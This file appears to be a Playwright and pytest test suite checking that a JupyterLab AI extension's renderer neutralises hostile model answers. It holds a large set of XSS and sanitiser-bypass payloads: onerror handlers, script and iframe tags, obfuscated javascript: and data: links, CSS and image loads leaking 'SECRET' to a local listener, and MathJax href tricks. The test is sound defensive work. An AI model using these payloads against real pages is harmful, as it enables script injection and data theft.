"""``%%azure`` answers carrying attack payloads, in a real JupyterLab with Debian's Chromium.

JupyterLab trusts outputs that a running kernel produces and puts their HTML into the page
unsanitised, so render.py is the only guard. The emulator repeats each payload family as
the model's answer ("Repeat verbatim: ..."); the payloads try to run script (setting
``window.__pwned``, calling ``alert``, fetching), to load remote images, style sheets and
frames, and to smuggle ``javascript:``/``data:`` links past the renderer in every form.
Every URL in them points at a listener on 127.0.0.1 started here. The test asserts that no
script ran, no dialog opened, no request reached the listener, and the output DOM (as
Chromium built it, MathJax's typeset math aside) passes the allowlist checker — also after
clicking every link in the outputs, where only the http(s) links open, as top-level pages
in a new tab, without a Referer and without ``window.opener``. The benign answer still
renders: bold, a table, a list, highlighted code and math typeset by JupyterLab's MathJax.

Same skip rule as the chat panel's browser tests (browser.py); screenshots and logs go to
``test-artifacts/`` (``safe-output-*``).
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from jupyter_azure_ai.emulator import Emulator

from ..html_allowlist import check
from .browser import (
    MS,
    Lab,
    chromium_page,
    jupyter_server,
    keep_notebook_kernel,
    require_browser,
    write_notebook,
)

# a 1x1 PNG: the one kind of image an answer may show inline
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5Erk"
    "Jggg=="
)
SVG = "PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0nYWxlcnQoMSknLz4="


@dataclass
class Listener:
    """An HTTP server on 127.0.0.1 recording every request (the payloads' target)."""

    port: int = 0
    requests: list[dict[str, Any]] = field(default_factory=list)

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    record = Listener()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            record.requests.append({"path": self.path, "headers": dict(self.headers)})
            body = b"<!doctype html><title>listener</title><p>listener</p>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    record.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield record
    finally:
        server.shutdown()
        server.server_close()


def payloads(base: str) -> dict[str, str]:
    """Each family is one answer; each payload marks what it tried (window flag, alert or a
    request to the listener) so a failure names the payload."""

    def js(tag: str) -> str:
        return f"window.__pwned=(window.__pwned||[]).concat('{tag}');alert('{tag}')"

    raw_html = f"""# <img src=x onerror="{js("h1")}"> heading

Paragraph <img src=x onerror="{js("p")}"> and <script>{js("script")}</script>.

- item <img src=x onerror="{js("li")}">
> quote <svg onload="{js("svg")}"></svg>

| cell <img src=x onerror="alert('th')"> |
|---|
| <b onmouseover="alert('td')">row</b> |

**bold <img src=x onerror="{js("strong")}">**
[link <img src=x onerror="{js("a")}">]({base}/raw-link)

\\` <img src=x onerror="{js("after-escaped-backtick")}">

a ~~~ b <img src=x onerror="{js("after-tildes")}">

a ``` b <img src=x onerror="{js("after-backticks")}">

`code` \\` still text <img src=x onerror="{js("after-code-span")}">

<div onmouseover="{js("div")}" style="position:fixed;inset:0">html block</div>

<details open ontoggle="{js("details")}"><summary>s</summary>x</details>

<iframe srcdoc="<script>parent.{js("iframe")}</script>"></iframe>

<object data="{base}/object"></object><embed src="{base}/embed">

<form action="{base}/form"><button formaction="javascript:{js("form")}">go</button></form>

<input autofocus onfocus="{js("input")}"> <video src=x onerror="{js("video")}"></video>

<a href="javascript:{js("raw-a")}">raw anchor</a>
<meta http-equiv="refresh" content="0;url={base}/meta">
"""
    images = f"""Markdown image: ![secret data]({base}/md-image.png?d=SECRET)

Reference image: ![ref][img]

[img]: {base}/ref-image.png?d=SECRET

HTML image: <img src="{base}/html-image.png?d=SECRET">
<picture><source srcset="{base}/srcset.png"><img src="{base}/picture.png"></picture>

SVG image: ![svg](data:image/svg+xml;base64,{SVG})

Linked image: [![inner]({base}/inner.png)]({base}/outer)

Inline PNG (allowed): ![dot](data:image/png;base64,{PNG})
"""
    css = f"""<style>@import url({base}/import.css); body {{ background: url({base}/b.png) }}
</style>

<link rel="stylesheet" href="{base}/link.css">

<div style="background-image:url({base}/style-attr.png)">styled</div>

<svg><style>@import url({base}/svg-import.css);</style></svg>

@import url({base}/plain-text.css);
"""
    links = f"""[inline](javascript:{js("inline")})
[upper](JAVASCRIPT:{js("upper")})
[spaced]( javascript:{js("spaced")})
[angle](<javascript:{js("angle")}>)
[entity](&#106;avascript:{js("entity")})
[hex entity](&#x6A;&#x61;vascript:{js("hex")})
[colon entity](javascript&colon;{js("colon")})
[tab](<java\tscript:{js("tab")}>)
[tab entity](java&#x09;script:{js("tab-entity")})
[newline entity](java&NewLine;script:{js("newline-entity")})
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[data html](data:text/html,<script>alert(1)</script>)
[vbscript](vbscript:msgbox(1))
[file](file:///etc/passwd)
[relative](/api/kernels)
[protocol relative](//127.0.0.1:1/x)

[reference][js] [reference data][data] [reference entity][ent]

[js]: javascript:{js("reference")}
[data]: data:text/html,<script>alert(1)</script>
[ent]: &#106;avascript:{js("reference-entity")}

Autolinks: <javascript:{js("autolink")}> <JaVaScRiPt:{js("autolink-mixed")}>
<data:text/html,<script>alert(1)</script>> <vbscript:msgbox(1)> <file:///etc/passwd>
"""
    math = f"""Link in math: $\\href{{javascript:{js("math-href")}}}{{click}}$ and
$\\href{{{base}/math-href}}{{remote}}$, $$\\style{{background:url({base}/math-style.png)}}{{x}}$$

Style: \\(\\bbox[background:url({base}/bbox.png)]{{y}}\\) and $\\class{{jp-Dialog}}{{z}}$

Outside math: \\begin{{equation}}\\href{{javascript:{js("environment")}}}{{env}}\\end{{equation}}

Prose dollars: it costs $5 \\href{{javascript:{js("prose")}}}{{here}} and $6.
"""
    benign = f"""## A benign answer

Some **bold text**, *emphasis* and ~~a strike~~.

| language | year |
|:---------|-----:|
| Python   | 1991 |
| Rust     | 2015 |

- first item
- second item

```python
def area(r: float) -> float:
    return 3.14159 * r**2
```

Energy $E = mc^2$ and

$$
\\int_0^1 x^2\\,dx = \\frac{{1}}{{3}}
$$

A [safe link]({base}/benign-link), mail <someone@example.com> and [top](#a-benign-answer).
"""
    return {
        "raw_html": raw_html,
        "images": images,
        "css": css,
        "links": links,
        "math": math,
        "benign": benign,
    }


FAMILIES = ["raw_html", "images", "css", "links", "math", "benign"]
SETUP = """%load_ext jupyter_azure_ai
import json
p = json.load(open("payloads.json"))


def lookup(query: str) -> str:
    '''Look something up.

    query: what to look up
    '''
    return p["tool"]"""
CELLS = [
    SETUP,
    *(f"%%azure\nRepeat verbatim: {{p[{name}]}}" for name in FAMILIES),
    "%%azure --tool lookup\nUse lookup for Paris",
    "%azure history",
]
TOOL_CELL = len(FAMILIES) + 1
HISTORY_CELL = TOOL_CELL + 1

# the output DOM, as Chromium serialises it, with MathJax's typeset math taken out
# (checked apart: it may only appear inside the spans render.py marked for it)
OUTPUT_HTML = """cell => {
    const outputs = [...cell.querySelectorAll('.jp-OutputArea-output')];
    return outputs.map(o => {
        const copy = o.cloneNode(true);
        copy.querySelectorAll('mjx-container').forEach(m => m.remove());
        return {mime: o.dataset.mimeType || '', html: copy.innerHTML};
    });
}"""


@dataclass
class SafeLab:
    lab: Lab
    listener: Listener
    dialogs: list[str]
    popups: list[Any]


@pytest.fixture(scope="module")
def safe_lab(
    emulator_server: Emulator, listener: Listener, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[SafeLab]:
    require_browser("jupyterlab")
    tmp = tmp_path_factory.mktemp("safe-lab")
    work = tmp / "notebooks"
    work.mkdir()
    families = payloads(listener.base)
    tool = (
        f"Result: <img src=x onerror=\"window.__pwned='tool'\"> ![t]({listener.base}/tool.png)"
        f" [t](javascript:window.__pwned='tool-link')"
    )
    (work / "payloads.json").write_text(json.dumps({**families, "tool": tool}))
    write_notebook(work / "safe.ipynb", CELLS)
    with (
        jupyter_server("jupyterlab", work, tmp, emulator_server, "jupyterlab-safe.log") as server,
        chromium_page(tmp / "chromium", server.base, "browser-console-safe.log") as page,
    ):
        dialogs: list[str] = []
        popups: list[Any] = []

        def on_dialog(dialog: Any) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        def on_page(popup: Any) -> None:
            popups.append(popup)
            popup.on("dialog", on_dialog)

        page.on("dialog", on_dialog)
        page.context.on("page", on_page)
        page.goto(f"{server.base}/lab/tree/safe.ipynb?reset&token={server.token}")
        page.locator(".jp-Notebook .jp-Cell").first.wait_for()
        idle = page.locator('.jp-Notebook-ExecutionIndicator[data-status="idle"]')
        idle.wait_for(timeout=30 * MS)
        keep_notebook_kernel(page)
        yield SafeLab(Lab(page, server.base, prefix="safe-output"), listener, dialogs, popups)


def pwned(page: Any) -> Any:
    return page.evaluate("window.__pwned === undefined ? null : window.__pwned")


def output_html(lab: Lab, index: int) -> list[dict[str, str]]:
    return list(lab.cell(index).evaluate(OUTPUT_HTML))


def check_outputs(lab: Lab, index: int) -> list[str]:
    """Every output of the cell passes the allowlist checker; returns the hrefs found."""
    hrefs: list[str] = []
    for output in output_html(lab, index):
        assert output["mime"] == "text/html", output
        hrefs += check(output["html"], jupyterlab=True).hrefs
    cell = lab.cell(index)
    # math was typeset only inside render.py's math spans, and made no links
    stray = cell.evaluate(
        "c => [...c.querySelectorAll('mjx-container')]"
        ".filter(m => !m.closest('.mathjax_process')).length"
    )
    assert stray == 0
    assert cell.locator("mjx-container a, mjx-container [href]").count() == 0
    return hrefs


def test_payload_answers_run_nothing_load_nothing_and_stay_allowlisted(safe_lab: SafeLab) -> None:
    from playwright.sync_api import expect

    lab, page = safe_lab.lab, safe_lab.lab.page
    # the checks can fail: unsanitised, such markup does run and load on this page
    page.evaluate(
        """base => { const d = document.createElement('div'); d.id = 'probe';
                     d.innerHTML = '<img src=x onerror="window.__probe=1;alert(1)">'
                                 + `<img src="${base}/probe.png">`;
                     document.body.append(d); }""",
        safe_lab.listener.base,
    )
    page.wait_for_function("window.__probe === 1")
    assert safe_lab.dialogs == ["1"]
    safe_lab.dialogs.clear()
    expect(page.locator("#probe img").nth(1)).to_have_js_property("complete", True)
    assert [r["path"] for r in safe_lab.listener.requests] == ["/probe.png"]
    page.evaluate("document.getElementById('probe').remove()")
    safe_lab.listener.requests.clear()

    lab.run(0)
    for index in range(1, HISTORY_CELL + 1):
        cell = lab.run(index)
        expect(cell.locator(".jp-OutputArea-output").first).to_be_visible()
    tool = lab.cell(TOOL_CELL).locator(".jp-OutputArea")
    expect(tool).to_contain_text("Based on lookup: Result:")
    expect(tool.locator("details")).to_have_count(1)
    raw = lab.cell(FAMILIES.index("raw_html") + 1).locator(".jp-OutputArea")
    expect(raw.locator("th")).to_contain_text("cell <img src=x onerror=")  # a real table
    benign = lab.cell(FAMILIES.index("benign") + 1)
    expect(benign.locator("mjx-container").first).to_be_visible(timeout=20 * MS)
    page.wait_for_timeout(1500)  # handlers, frames, style sheets and images have had time
    lab.shot("payloads")

    assert pwned(page) is None
    assert safe_lab.dialogs == []
    assert safe_lab.listener.requests == []
    for index in range(1, HISTORY_CELL + 1):
        check_outputs(lab, index)
    # every refused link shows as the text the model wrote, not as a link
    links = lab.cell(FAMILIES.index("links") + 1).locator(".jp-OutputArea")
    expect(links.locator("a")).to_have_count(0)
    expect(links).to_contain_text("[inline](javascript:window.__pwned=")
    expect(links).to_contain_text("[js]: javascript:window.__pwned=")
    expect(links).to_contain_text("<javascript:window.__pwned=")
    notebook = page.locator(".jp-Notebook")
    for selector in ("script", "iframe", "object", "embed", "form", "style", "link", "svg"):
        assert notebook.locator(f".jp-OutputArea-output {selector}").count() == 0, selector
    # the inline PNG (answer, and prompt and answer in the history)
    assert notebook.locator(".jp-OutputArea-output img").count() == 3
    for img in notebook.locator(".jp-OutputArea-output img").all():
        assert (img.get_attribute("src") or "").startswith("data:image/png;base64,")


def test_benign_markdown_still_renders(safe_lab: SafeLab) -> None:
    from playwright.sync_api import expect

    cell = safe_lab.lab.cell(FAMILIES.index("benign") + 1)
    out = cell.locator(".jp-OutputArea")  # one output per finished block
    expect(out.locator("h2")).to_have_text("A benign answer")
    expect(out.locator("strong")).to_have_text("bold text")
    expect(out.locator("s")).to_have_text("a strike")
    expect(out.locator("table th")).to_have_text(["language", "year"])
    expect(out.locator("table td")).to_have_text(["Python", "1991", "Rust", "2015"])
    expect(out.locator("ul > li")).to_have_text(["first item", "second item"])
    code = out.locator("pre code.language-python")
    expect(code).to_contain_text("return 3.14159 * r**2")
    # math typeset by JupyterLab's MathJax, from the text render.py left untouched
    math = out.locator(".mathjax_process mjx-container")
    expect(math).to_have_count(2)
    assert math.nth(1).get_attribute("display") == "true"
    assert "E = mc^2" not in out.inner_text()
    link = out.get_by_role("link", name="safe link")
    assert link.get_attribute("target") == "_blank"
    assert link.get_attribute("referrerpolicy") == "no-referrer"
    assert link.get_attribute("rel") == "noopener"  # JupyterLab rewrites render.py's rel
    safe_lab.lab.shot("benign")


def test_clicking_every_link_runs_nothing(safe_lab: SafeLab) -> None:
    lab, page, listener = safe_lab.lab, safe_lab.lab.page, safe_lab.listener
    clicked: list[str] = []
    tabs = 0
    for index in range(1, HISTORY_CELL + 1):
        links = lab.cell(index).locator(".jp-OutputArea-output a")
        for i in range(links.count()):
            link = links.nth(i)
            href = link.get_attribute("href") or ""
            clicked.append(href)
            if not href.startswith(listener.base):
                link.click()  # refused (no href), mailto: or an in-page anchor
                continue
            with page.expect_popup(lambda p: p.url.startswith(listener.base)) as opening:
                link.click()
            tab = opening.value
            tab.wait_for_load_state()
            # the opened page has no handle on the notebook's page (rel=noopener)
            assert tab.evaluate("window.opener") is None, tab.url
            tabs += 1
            tab.close()
    page.wait_for_timeout(1000)
    lab.shot("after-clicks")
    # only the http(s) links opened, each as a page of its own (a top-level navigation in a
    # new tab), without telling the listener where it was opened from
    opened = {h.removeprefix(listener.base) for h in clicked if h.startswith(listener.base)}
    paths = [r["path"] for r in listener.requests if r["path"] != "/favicon.ico"]
    assert set(paths) == opened
    for request in listener.requests:
        if request["path"] == "/favicon.ico":  # the browser's own, for the page it opened
            continue
        headers = {k.lower(): v for k, v in request["headers"].items()}
        assert headers.get("sec-fetch-dest") == "document", request
        assert headers.get("sec-fetch-mode") == "navigate", request
        assert "referer" not in headers, request
    assert tabs == sum(h.startswith(listener.base) for h in clicked) >= 10
    assert pwned(page) is None
    assert safe_lab.dialogs == []
    for index in range(1, HISTORY_CELL + 1):
        check_outputs(lab, index)
